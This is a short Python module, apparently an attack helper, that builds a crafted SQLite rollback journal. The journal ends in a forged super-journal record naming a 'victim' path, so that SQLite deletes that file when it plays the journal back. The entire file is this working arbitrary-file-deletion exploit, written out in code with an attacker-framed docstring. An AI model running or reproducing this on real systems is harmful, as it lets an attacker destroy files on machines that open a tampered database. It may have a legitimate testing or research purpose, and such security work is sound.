"""A rollback journal as an attacker prepares it: it makes SQLite delete a file of his choice."""

from __future__ import annotations

import struct
from pathlib import Path

MAGIC = bytes.fromhex("d9d505f920a163d7")
SECTOR = 512


def naming(victim: Path, database: Path) -> bytes:
    """The journal of a transaction over several databases, with ``victim`` for their list.

    SQLite plays it back (no page changes), sees that no database in the list needs the list any
    more, and deletes it.
    """
    content = database.read_bytes()
    page_size = struct.unpack(">H", content[16:18])[0]
    pages = len(content) // page_size
    header = MAGIC + struct.pack(">iIIII", 0, 0, pages, SECTOR, page_size)
    name = str(victim).encode()
    lock_page = 0x4000_0000 // page_size + 1
    tail = struct.pack(">I", lock_page) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    return header.ljust(SECTOR, b"\0") + tail
